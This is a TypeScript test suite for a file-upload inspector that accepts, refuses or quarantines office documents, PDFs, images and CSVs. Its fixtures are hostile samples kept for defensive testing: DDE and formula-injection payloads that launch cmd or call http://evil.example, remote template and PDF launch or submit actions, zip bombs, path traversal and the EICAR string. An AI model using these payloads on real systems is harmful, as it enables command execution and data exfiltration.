import { createHash } from 'node:crypto';
import { mkdtemp, rm, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeSampleFile, type SampleKind } from '../demonstration/sample-files.ts';
import { zipOf } from '../documents/zip.ts';
import { bytesOfBuffer } from './byte-source.ts';
import { inspectFile, type InspectOptions } from './inspect-file.ts';
import {
  compound,
  executable,
  objectStream,
  ofd,
  office,
  officeParts,
  patchedZip,
  pdf,
  png,
  relationship,
  sheet,
  wordStream,
  workbookStream,
} from './made-files.fixture.ts';
import { readParts, unpack } from './zip-archive.ts';

let folder: string;
beforeAll(async () => (folder = await mkdtemp(join(tmpdir(), 'inspect-'))));
afterAll(() => rm(folder, { recursive: true }));

let count = 0;
async function inspect(name: string, bytes: Buffer | string, options?: InspectOptions) {
  const path = join(folder, String(count++));
  await writeFile(path, bytes);
  // Far beyond the usual limit: the verdicts must not depend on how busy the machine is.
  return inspectFile(path, name, { timeLimitMs: 60_000, ...options });
}

const sample = async (kind: SampleKind) =>
  (
    await makeSampleFile(kind, {
      title: '工作总结',
      unitName: '云阳市水利局',
      year: 2025,
      paragraphs: ['开展检查12次。'],
      seed: 1,
    })
  ).bytes;

const embed = (kind: 'docx' | 'xlsx', name: string, content: Buffer | string) =>
  office(kind, { more: [[name, content]] });
const field = (...texts: string[]) =>
  office('docx', { body: `<w:fldChar/>${texts.map(text => `<w:instrText>${text}</w:instrText>`).join('<w:r/>')}` });
const linked = (kind: 'docx' | 'xlsx', type: string, target: string) =>
  office(kind, { relationships: relationship(type, target) });
const nestedDocx = (depth: number): Buffer =>
  depth === 1 ? office('docx') : embed('docx', 'word/embeddings/a.docx', nestedDocx(depth - 1));
const noise = createHash('shake256', { outputLength: 900_000 }).update('noise').digest();
const filler = Buffer.alloc(30 << 20, 65);
const wide = (text: string) => Buffer.from(text, 'utf16le');

describe('good files are accepted', async () => {
  const files: [string, string, Buffer | string][] = [
    ['pdf', 'a.pdf', await sample('pdf')],
    ['docx', '总结.docx', await sample('docx')],
    ['xlsx', '台账.XLSX', await sample('xlsx')],
    ['jpg', '现场.jpeg', await sample('jpg')],
    ['docx', 'deflated.docx', office('docx', { body: '<w:t>正文</w:t>' })],
    ['pptx', 'a.pptx', office('pptx')],
    ['ofd', '公文.ofd', ofd(['Doc_0/Document.xml', '<Document/>'])],
    ['png', 'a.png', png()],
    ['doc', 'a.doc', compound({ WordDocument: wordStream() })],
    ['wps', 'a.wps', compound({ WordDocument: wordStream() })],
    ['xls', 'a.xls', compound({ Workbook: workbookStream() })],
    ['et', 'a.et', compound({ Workbook: workbookStream() })],
    ['txt', 'a.txt', '本月开展执法检查 12 次。\n'],
    ['txt', 'GBK.txt', Buffer.from('d6b4b7a8bcecb2e9', 'hex')],
    ['txt', 'UTF-16.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), wide('执法检查')])],
    ['csv', 'a.csv', '单位,得分,增减,电话\n"水利局","-5",-3,+86-10-12345678\n'],
    ['docx', 'a hyperlink.docx', linked('docx', 'hyperlink', 'https://example.org/')],
    ['xlsx', 'another workbook.xlsx', linked('xlsx', 'externalLinkPath', 'file:///D:/b.xlsx')],
    ['xlsx', 'a bar within text.xlsx', sheet("A1&amp;&quot;|&quot;&amp;'甲|乙'!B1")],
    [
      'xlsx',
      'functions by similar names.xlsx',
      sheet('RECALL(A1)&amp;&quot;CALL(&quot;&amp;HYPERLINK(&quot;https://a&quot;)'),
    ],
    ['docx', 'an embedded table.docx', embed('docx', 'word/embeddings/t.xlsx', office('xlsx'))],
    ['docx', 'ordinary fields.docx', field(' PAGE ', 'HYPERLINK "https://example.org/bidder"')],
    [
      'pdf',
      'a form-free outline.pdf',
      pdf('<< /Type /Outlines /First 5 0 R /Count 1 >>', '<< /Title (x) /Parent 4 0 R >>'),
    ],
    ['pdf', 'packed objects.pdf', pdf(objectStream('5 0 << /Type /Font /BaseFont /STSong-Light >>'))],
  ];
  test.each(files)('%s: %s', async (kind, name, bytes) => {
    expect(await inspect(name, bytes)).toMatchObject({ verdict: 'accept', kind, reasons: [] });
  });
});

describe('files of the wrong kind are refused', async () => {
  const html = '<!DOCTYPE html><script>alert(1)</script>';
  const plainZip = zipOf([['a.txt', 'x']]);
  const files: [string, string, Buffer | string][] = [
    ['empty', 'a.pdf', ''],
    ['extension-not-allowed', 'a.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['extension-not-allowed', 'a.html', html],
    ['extension-not-allowed', 'a.zip', plainZip],
    ['extension-not-allowed', 'a.exe', executable()],
    ['extension-not-allowed', 'no extension', 'x'],
    ['bad-name', '../a.pdf', await sample('pdf')],
    ['bad-name', 'a\u202efdp.exe', executable()],
    ['type-not-allowed', 'html.txt', html],
    ['type-not-allowed', 'svg.txt', '\ufeff  <svg onload="alert(1)"/>'],
    ['type-not-allowed', 'html in UTF-16.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), wide(html)])],
    ['type-not-allowed', 'zip.docx', plainZip],
    ['type-not-allowed', 'zip.pdf', plainZip],
    ['type-not-allowed', 'exe.pdf', executable()],
    ['type-not-allowed', 'rar.docx', Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\0', 'latin1'), Buffer.alloc(64)])],
    ['type-not-allowed', 'gif.jpg', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1')],
    ['type-not-allowed', 'rtf.txt', '{\\rtf1\\ansi{\\object\\objocx}}'],
    ['type-not-allowed', 'installer.doc', compound({ '!_Tables': Buffer.alloc(10) })],
    [
      'type-not-allowed',
      'binary workbook.xlsx',
      office('xlsx', { mainType: 'application/vnd.ms-excel.sheet.binary.macroEnabled.main' }),
    ],
    ['extension-mismatch', 'png.pdf', png()],
    ['extension-mismatch', 'pdf.docx', await sample('pdf')],
    ['extension-mismatch', 'xlsx.docx', office('xlsx')],
    ['extension-mismatch', 'doc.docx', compound({ WordDocument: wordStream() })],
    ['extension-mismatch', 'text.pdf', '只是文字'],
    ['extension-mismatch', 'noise.txt', Buffer.from([1, 2, 3, 0, 5, 6, 7, 200, 201])],
    ['extension-mismatch', 'sylk.csv', 'ID;P\nO;E\n'],
  ];
  test.each(files)('%s: %s', async (code, name, bytes) => {
    const { verdict, reasons } = await inspect(name, bytes);
    expect(reasons.map(reason => reason.code)).toContain(code);
    expect(verdict).toBe('refuse');
  });

  test('too large for the limit given', async () => {
    const path = join(folder, 'large');
    await writeFile(path, '%PDF-');
    await truncate(path, (200 << 20) + 1);
    const { verdict, reasons } = await inspectFile(path, 'a.pdf');
    expect(verdict).toBe('refuse');
    expect(reasons[0]).toMatchObject({ code: 'too-large', message: { zh: expect.stringContaining('200 MB') } });
    expect((await inspect('b.txt', 'abc', { maxBytes: 2 })).reasons[0]?.code).toBe('too-large');
  });
});

describe('a double extension', () => {
  test('on a good file is only flagged', async () => {
    const { verdict, kind, reasons } = await inspect('a.exe.pdf', await sample('pdf'));
    expect([verdict, kind, reasons.map(reason => reason.code)]).toEqual(['accept', 'pdf', ['double-extension']]);
  });
  test('that ends in a program is refused', async () => {
    const { verdict, reasons } = await inspect('a.pdf.exe', executable());
    expect([verdict, reasons.map(reason => reason.code)]).toEqual([
      'refuse',
      ['double-extension', 'extension-not-allowed'],
    ]);
  });
  test('is not seen in an ordinary numbered name', async () => {
    expect((await inspect('1.2.附件.v3.pdf', await sample('pdf'))).reasons).toEqual([]);
  });
});

describe('files that are two kinds at once are refused', async () => {
  const zip = zipOf([['a.js', 'alert(1)']]);
  const files: [string, Buffer][] = [
    ['a picture and a zip.jpg', Buffer.concat([await sample('jpg'), zip])],
    ['a picture and a zip.png', png({ after: zip })],
    ['a picture and a rar.jpg', Buffer.concat([await sample('jpg'), Buffer.from('Rar!\x1a\x07\0', 'latin1')])],
    ['a picture and a 7z.png', png({ after: Buffer.from('7z\xbc\xaf\x27\x1c', 'latin1') })],
    ['a PDF and a zip.pdf', Buffer.concat([await sample('pdf'), zip])],
    ['a PDF and a page.pdf', Buffer.from('%PDF-1.4\n<html><script>alert(1)</script>\n%%EOF')],
    ['a package and a PDF.docx', zipOf([['a', '%PDF-1.4'], ...officeParts('docx')])],
    ['text and a PDF.txt', Buffer.from('hello\n%PDF-1.4\n')],
  ];
  test.each(files)('%s', async (name, bytes) => {
    expect(await inspect(name, bytes)).toMatchObject({ verdict: 'refuse', reasons: [{ code: 'polyglot' }] });
  });
});

describe('damaged files are refused', async () => {
  const jpg = await sample('jpg');
  const docx = office('docx', { body: '正文'.repeat(500) });
  const crcWrong = patchedZip(docx, central => central.writeUInt32LE(1, 16));
  const looped = compound({ WordDocument: wordStream() });
  looped.writeUInt32LE(2, 512 + 8); // the directory's second sector, or the document's, points at itself
  const files: [string, Buffer][] = [
    ['cut.pdf', (await sample('pdf')).subarray(0, 900)],
    ['cut.jpg', jpg.subarray(0, jpg.length - 40)],
    ['no picture.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0, 0, 0xff, 0xd9])],
    ['no picture.png', Buffer.concat([png().subarray(0, 33), png().subarray(-12)])],
    ['cut.png', png().subarray(0, 40)],
    ['checksum.docx', crcWrong],
    ['looped.doc', looped],
    ['cut.doc', compound({ WordDocument: wordStream() }).subarray(0, 1100)],
    ['header only.xls', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(40)])],
  ];
  test.each(files)('%s', async (name, bytes) => {
    expect(await inspect(name, bytes)).toMatchObject({ verdict: 'refuse', reasons: [{ code: 'damaged' }] });
  });
});

describe('packages built to harm the unpacker are refused', () => {
  const bomb = embed('docx', 'word/media/a.bmp', Buffer.alloc(20 << 20));
  const overlapping = patchedZip(
    office('docx', {
      more: [
        ['x', 'x'],
        ['y', 'y'],
      ],
    }),
    (central, _, index) => {
      if (index === 5) central.writeUInt32LE(central.readUInt32LE(42) - 33, 42); // the last begins where another does
    },
  );
  const quoting = patchedZip(office('docx', { more: [['x', 'x'.repeat(9)]] }), (central, local, index) => {
    if (index !== 0) return;
    central.writeUInt32LE(central.readUInt32LE(20) + 60, 20);
    local.writeUInt32LE(local.readUInt32LE(18) + 60, 18);
  });
  const dropped = (zip: Buffer, entries: number) => {
    const bytes = Buffer.from(zip);
    bytes.writeUInt16LE(entries, bytes.length - 12);
    return bytes;
  };
  const commented = Buffer.concat([dropped(office('docx'), 4), Buffer.alloc(76)]);
  commented.writeUInt16LE(76, commented.length - 78);
  const prefix = Buffer.from('PK\x03\x04 something else');
  const prefixed = Buffer.concat([
    prefix,
    patchedZip(office('docx'), central => central.writeUInt32LE(central.readUInt32LE(42) + prefix.length, 42)),
  ]);
  prefixed.writeUInt32LE(prefixed.readUInt32LE(prefixed.length - 6) + prefix.length, prefixed.length - 6);
  const manyEntries = zipOf(Array.from({ length: 10_001 }, (_, i) => [`word/${i}`, ''] as const));
  const files: [string, string, Buffer][] = [
    ['zip-ratio', 'a bomb', bomb],
    [
      'zip-ratio',
      'a bomb beside padding',
      office('docx', {
        more: [
          ['padding', noise],
          ['bomb', Buffer.alloc(20 << 20)],
        ],
      }),
    ],
    [
      'zip-ratio',
      'a bomb in small portions',
      office('docx', { more: Array.from({ length: 30 }, (_, i) => [`word/${i}`, Buffer.alloc(1 << 20)]) }),
    ],
    ['zip-inconsistent', 'a comment at the end', commented],
    ['zip-inconsistent', 'something before the first entry', prefixed],
    ['zip-too-many-entries', '10,001 entries', manyEntries],
    [
      'zip-too-big',
      'stated sizes beyond the limit',
      patchedZip(office('docx', { more: [['big', filler]] }), central => {
        central.writeUInt32LE(300 << 20, 24);
        central.writeUInt32LE(290 << 20, 20);
      }),
    ],
    ['zip-overlap', 'an entry inside another', quoting],
    ['zip-overlap', 'two entries in one place', overlapping],
    [
      'zip-symlink',
      'a symbolic link',
      patchedZip(office('docx'), central => central.writeUInt32LE((0o120777 << 16) >>> 0, 38)),
    ],
    ['zip-encrypted', 'an encrypted entry', patchedZip(office('docx'), central => central.writeUInt16LE(0x801, 8))],
    [
      'zip-lying-size',
      'more bytes than stated',
      patchedZip(office('docx', { more: [['word/a.bin', filler.subarray(0, 9000)]] }), central =>
        central.writeUInt32LE(central.readUInt32LE(24) - 5, 24),
      ),
    ],
    [
      'zip-lying-size',
      'far more bytes than stated',
      patchedZip(embed('docx', 'word/a.bin', filler), (central, _, index) => {
        if (index === 4) central.writeUInt32LE(1000, 24);
      }),
    ],
    [
      'zip-lying-size',
      'fewer bytes than stated',
      patchedZip(office('docx'), central => central.writeUInt32LE(central.readUInt32LE(24) + 5, 24)),
    ],
    [
      'zip-lying-size',
      'a stored entry of another size',
      patchedZip(zipOf(officeParts('docx')), central => central.writeUInt32LE(7, 24)),
    ],
    [
      'zip-inconsistent',
      'a name that differs beside the data',
      patchedZip(office('docx'), (_, local) => local.write('X', 30)),
    ],
    ['zip-inconsistent', 'the same name twice', zipOf([...officeParts('docx'), ['Word/document.xml', 'other']])],
    ['zip-inconsistent', 'a path out of the package', zipOf([...officeParts('docx'), ['../evil', 'x']])],
    [
      'zip-inconsistent',
      'an unknown packing method',
      patchedZip(office('docx'), central => central.writeUInt16LE(99, 10)),
    ],
    ['zip-inconsistent', 'entries hidden from the count', dropped(office('docx'), 3)],
    [
      'zip-inconsistent',
      'two main documents',
      office('docx', {
        types:
          '<Override PartName="/x" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
      }),
    ],
    ['zip-inconsistent', 'bytes after the end', Buffer.concat([office('docx'), Buffer.from('trailing')])],
    ['nested-archive', 'a zip inside', embed('docx', 'word/media/a.png', zipOf([['a', 'a']]))],
    [
      'nested-archive',
      'a rar inside',
      embed('docx', 'word/media/a.png', Buffer.from('Rar!\x1a\x07\x01\0aaaa', 'latin1')),
    ],
    ['nested-archive', 'packages nested too deep', nestedDocx(4)],
    ['zip-ratio', 'a bomb in an embedded package', embed('docx', 'word/embeddings/a.docx', bomb)],
    ['executable-inside', 'a program inside', embed('docx', 'word/media/a.png', executable())],
    ['executable-inside', 'a program inside an OFD', ofd(['Doc_0/Res/a.jpg', executable()])],
  ];
  test.each(files)('%s: %s', async (code, name, bytes) => {
    const before = process.cpuUsage();
    const { verdict, reasons } = await inspect(name.includes('OFD') ? 'a.ofd' : 'a.docx', bytes);
    expect([verdict, reasons.map(reason => reason.code)]).toEqual(['refuse', [code]]);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1_000).toBeLessThan(2_000);
  });
});

describe('office files that would act on their own are set aside', () => {
  const declared = (type: string) =>
    office('docx', { types: `<Override PartName="/word/x.dat" ContentType="${type}"/>` });
  const files: [string, string, Buffer][] = [
    ['macro', 'vbaProject.docx', embed('docx', 'word/vbaProject.bin', 'x')],
    ['macro', 'renamed macros.docx', declared('application/vnd.ms-office.vbaProject')],
    [
      'macro',
      'macros by relationship.docx',
      office('docx', { relationships: relationship('vbaProject', 'x.bin', 'Internal') }),
    ],
    [
      'macro',
      'macro-enabled.docx',
      office('docx', { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    ],
    ['macro', 'macro sheet.xlsx', embed('xlsx', 'xl/macrosheets/sheet1.xml', '<x/>')],
    ['macro', 'control.docx', embed('docx', 'word/activeX/activeX1.xml', '<x/>')],
    [
      'macro',
      'macros in an embedded table.docx',
      embed('docx', 'word/embeddings/a.xlsx', embed('xlsx', 'xl/vbaProject.bin', 'x')),
    ],
    [
      'macro',
      'macros in an embedded old document.docx',
      embed('docx', 'word/embeddings/a.bin', compound({ _VBA_PROJECT: Buffer.alloc(9) })),
    ],
    ['macro', 'macros.doc', compound({ WordDocument: wordStream(), _VBA_PROJECT: Buffer.alloc(9) })],
    ['macro', 'macros.xls', compound({ Workbook: workbookStream(), _VBA_PROJECT_CUR: Buffer.alloc(9) })],
    [
      'macro',
      'macro sheet.xls',
      compound({ Workbook: workbookStream([0x85, Buffer.from([0, 0, 0, 0, 0, 1, 1, 0, 65])]) }),
    ],
    [
      'embedded-file',
      'packed object.docx',
      embed('docx', 'word/embeddings/o.bin', compound({ '\x01Ole10Native': Buffer.alloc(9) })),
    ],
    [
      'embedded-file',
      'packed object.doc',
      compound({ WordDocument: wordStream(), '\x01Ole10Native': Buffer.alloc(9) }),
    ],
    [
      'embedded-file',
      'imported page.docx',
      office('docx', { relationships: relationship('aFChunk', 'a.html', 'Internal') }),
    ],
    ['external-link', 'template.docx', linked('docx', 'attachedTemplate', 'http://evil.example/t.dotm')],
    [
      'external-link',
      'escaped template.docx',
      office('docx', {
        relationships: relationship('attachedTemplate', '\\\\h\\t', '&#69;xternal').replaceAll('"', "'"),
      }),
    ],
    ['external-link', 'linked object.docx', linked('docx', 'oleObject', 'file://h/a.doc')],
    ['external-link', 'linked frame.docx', linked('docx', 'frame', 'http://evil.example/')],
    ['external-link', 'linked picture.docx', linked('docx', 'image', '\\\\h\\a.png')],
    [
      'external-link',
      'linked object.xlsx',
      embed('xlsx', 'xl/externalLinks/e.xml', '<externalLink><oleLink progId="x"/></externalLink>'),
    ],
    ['dde', 'formula.xlsx', sheet("cmd|' /C calc'!A0")],
    ['dde', 'escaped formula.xlsx', sheet("cmd&#x7c;' /C calc'!A0")],
    [
      'dde',
      'prefixed formula.xlsx',
      embed('xlsx', 'xl/worksheets/a.xml', "<x:worksheet><x:f t='n'>+cmd|'/c x'!A1</x:f></x:worksheet>"),
    ],
    ['formula-injection', 'outgoing formula.xlsx', sheet('1+_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)')],
    ['formula-injection', 'calling formula.xlsx', sheet('CALL (&quot;urlmon&quot;,&quot;x&quot;)')],
    [
      'dde',
      'formula in a part of another name.xlsx',
      embed('xlsx', 'xl/a.dat', "<worksheet><f>cmd|'/c x'!A1</f></worksheet>"),
    ],
    [
      'dde',
      'link.xlsx',
      embed('xlsx', 'xl/externalLinks/e.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
    ],
    [
      'dde',
      'formula far into a large sheet.xlsx',
      embed(
        'xlsx',
        'xl/worksheets/a.xml',
        `<worksheet>${Array.from({ length: 3e5 }, (_, i) => `<c><v>${i * 7919}</v></c>`).join('')}<f>cmd|'/c'!A1</f></worksheet>`,
      ),
    ],
    ['dde', 'field.docx', field('DDEAUTO c:\\\\windows\\\\cmd.exe')],
    ['dde', 'split field.docx', field(' DD', 'EAUTO c:\\\\x')],
    ['dde', 'quoted field.docx', field(' QUOTE 68 68 69 65 ')],
    ['dde', 'simple field.docx', office('docx', { body: '<w:fldSimple w:instr="&#68;DE x y"/>' })],
    ['dde', 'field.doc', compound({ WordDocument: wordStream({ text: '\x13 DDEAUTO c:\\x \x14' }) })],
    [
      'dde',
      'link.xls',
      compound({ Workbook: workbookStream([0x1ae, Buffer.from([0, 0, 5, 0, 0, 99, 109, 100, 3, 120])]) }),
    ],
    [
      'odd-xml',
      'UTF-16 links.docx',
      zipOf([
        ...officeParts('docx').slice(0, 3),
        ['word/_rels/document.xml.rels', Buffer.concat([Buffer.from([0xff, 0xfe]), wide('<Relationships/>')])],
      ]),
    ],
    ['odd-xml', 'UTF-7 document.docx', embed('docx', 'word/a.xml', '<?xml version="1.0" encoding="UTF-7"?><a/>')],
    ['odd-xml', 'entities.docx', embed('docx', 'word/a.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')],
    ['odd-xml', 'CDATA formula.xlsx', sheet("<![CDATA[cmd|'/c'!A1]]>")],
    ['odd-xml', 'comment in a formula.xlsx', sheet("cmd<!-- -->|'/c'!A1")],
    ['encrypted', 'password.docx', compound({ EncryptedPackage: Buffer.alloc(9) })],
    ['encrypted', 'password.xlsx', compound({ EncryptedPackage: Buffer.alloc(9) })],
    ['encrypted', 'password.doc', compound({ WordDocument: wordStream({ flags: 0x0100 }) })],
    ['encrypted', 'password.xls', compound({ Workbook: workbookStream([0x2f, Buffer.alloc(6)]) })],
  ];
  test.each(files)('%s: %s', async (code, name, bytes) => {
    const { verdict, reasons } = await inspect(name, bytes);
    expect(reasons.map(reason => reason.code)).toContain(code);
    expect(verdict).toBe('quarantine');
  });
});

describe('PDFs that would act on their own are set aside', () => {
  test('but not for four bytes that packed data holds by chance', async () => {
    const packed = (before: Buffer) =>
      pdf(Buffer.concat([Buffer.from('<< /Length 20 >>\nstream\n'), before, Buffer.from('/JS(\x91\nendstream')]));
    expect((await inspect('a.pdf', packed(Buffer.of(0x20, 0x9c, 0xd1, 0x41, 0xee, 0x07)))).verdict).toBe('accept');
    expect((await inspect('a.pdf', pdf('<< /S /URI >> << /JS(x) >>'))).verdict).toBe('quarantine');
  });

  const files: [string, string, Buffer][] = [
    ['pdf-javascript', 'a script', pdf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
    ['pdf-javascript', 'an escaped script', pdf('<< /S /J#61vaScr#69pt >>')],
    ['pdf-javascript', 'a packed script', pdf(objectStream('5 0 << /S /JavaScript /JS (x) >>'))],
    ['pdf-javascript', 'a packed escaped script', pdf(objectStream('5 0 << /S /#4a#61vaScript >>'))],
    [
      'pdf-javascript',
      'packed without a type',
      pdf(objectStream('5 0 << /S /JavaScript /JS (x) >>', '/Filter /FlateDecode')),
    ],
    [
      'pdf-javascript',
      'packed behind an escaped type',
      pdf(objectStream('5 0 << /S /JavaScript >>', '/Type /Obj#53tm /Filter [ /FlateDecode ]')),
    ],
    ['pdf-javascript', 'a script after a false stream', pdf('(stream\n) << /S /JavaScript >>')],
    ['pdf-javascript', 'a form with its own scripts', pdf('<< /AcroForm << /XFA [ (x) 9 0 R ] >> >>')],
    ['pdf-launch', 'a program start', pdf('<< /S /Launch /F (cmd.exe) >>')],
    ['pdf-launch', 'data sent away', pdf('<< /S /SubmitForm /F (http://evil.example) >>')],
    ['embedded-file', 'a file inside', pdf('<< /Type /EmbeddedFile >>')],
    ['embedded-file', 'a file inside without a type', pdf('<< /F (a) /EF << /F 9 0 R >> >>')],
    ['embedded-file', 'rich media', pdf('<< /Subtype /RichMedia >>')],
    [
      'unreadable-part',
      'packed in an unusual way',
      pdf(objectStream('5 0 <<>>', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]')),
    ],
    [
      'unreadable-part',
      'packed and then broken',
      pdf(objectStream('5 0 <<>>', '/Type /ObjStm /Filter /FlateDecode').fill(0, 75, 80)),
    ],
    ['unreadable-part', 'packed bomb', pdf(objectStream(' '.repeat(40 << 20)))],
    ['encrypted', 'a password', pdf('<< /Encrypt 9 0 R >>')],
  ];
  test.each(files)('%s: %s', async (code, name, bytes) => {
    const { verdict, reasons } = await inspect(`${name}.pdf`, bytes);
    expect(reasons.map(reason => reason.code)).toContain(code);
    expect(verdict).toBe('quarantine');
  });
});

describe('other doubtful files are set aside', () => {
  const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
  const files: [string, string, Buffer | string][] = [
    ['dde', 'a.csv', "名称\n=cmd|' /C calc'!A0\n"],
    ['dde', 'b.csv', 'x;"\u00a0 @SUM(1)*cmd|\'/c, calc\'!A0"\n'],
    ['dde', 'c.csv', '"两行\n=DDE(""cmd"")"'],
    ['dde', 'd.csv', "-2+3+cmd|'/c calc'!A0"],
    ['formula-injection', 'e.csv', 'a,"=HYPERLINK(""http://evil.example"",""x"")"'],
    ['formula-injection', 'f.csv', '\t+WEBSERVICE("http://evil.example")'],
    ['test-virus', 'a.txt', eicar],
    ['image-too-large', 'a.png', png({ width: 60_000, height: 60_000 })],
    ['not-checked-in-time', 'a.docx', office('docx')],
  ];
  test.each(files)('%s: %s', async (code, name, bytes) => {
    const options = code === 'not-checked-in-time' ? { timeLimitMs: 0 } : {};
    const { verdict, reasons } = await inspect(name, bytes, options);
    expect([verdict, reasons.map(reason => reason.code)]).toEqual(['quarantine', [code]]);
  });
});

test('a field is seen right behind another, and a formula wherever a large part is cut for reading', async () => {
  const fields = '<w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>DDE c:\\x</w:instrText>';
  expect((await inspect('a.docx', office('docx', { body: fields }))).reasons[0]?.code).toBe('dde');
  for (let before = 0; before < 40; before += 3) {
    const text = `<worksheet>${'x'.repeat((1 << 20) - 11 - before)}<f t="str">cmd|'/c'!A1</f></worksheet>`;
    const stored = zipOf([...officeParts('xlsx'), ['xl/worksheets/a.xml', text]]);
    expect((await inspect('a.xlsx', stored)).reasons[0]?.code).toBe('dde');
  }
});

test('unpacking ends as soon as there is more than was stated', async () => {
  const zip = patchedZip(
    embed('docx', 'word/a.bin', createHash('shake256', { outputLength: 8 << 20 }).digest()),
    (central, _, index) => {
      if (index === 4) central.writeUInt32LE(5 << 20, 24);
    },
  );
  const source = bytesOfBuffer(zip);
  const part = (await readParts(source, { unpackedBytes: 1 << 30 })).at(-1)!;
  let given = 0;
  const all = async () => {
    for await (const bytes of unpack(source, part)) given += bytes.length;
  };
  await expect(all()).rejects.toMatchObject({ code: 'zip-lying-size' });
  expect(given).toBeLessThanOrEqual(5 << 20);
});

test('a text with a bar and a minus sign is no formula', async () => {
  expect((await inspect('a.csv', '- 完成|未完成,-3\n')).verdict).toBe('accept');
});

test('reasons are readable in both languages, whatever the file put into them', async () => {
  const { reasons } = await inspect('a.docx', linked('docx', 'attachedTemplate', `http://e/\u202e${'x'.repeat(500)}`));
  expect(reasons[0]?.message.zh).toMatch(/^文件会自动加载外部内容（http:\/\/e\/ x+…）$/);
  expect(reasons[0]?.message.en.length).toBeLessThan(160);
});

test('every cut of a good file gets a verdict, never an error', async () => {
  for (const kind of ['pdf', 'docx', 'xlsx', 'jpg'] as const) {
    const bytes = await sample(kind);
    for (let length = 1; length < bytes.length; length += Math.ceil(bytes.length / 60))
      expect((await inspect(`a.${kind}`, bytes.subarray(0, length))).verdict).not.toBe('accept');
  }
});

test('every flipped byte of an old document gets a verdict in time', async () => {
  const bytes = compound({ WordDocument: wordStream(), Data: Buffer.alloc(5000) });
  for (let at = 0; at < 1536; at += 3) {
    const flipped = Buffer.from(bytes);
    flipped[at]! ^= 0xff;
    expect(['accept', 'quarantine', 'refuse']).toContain((await inspect('a.doc', flipped)).verdict);
  }
});
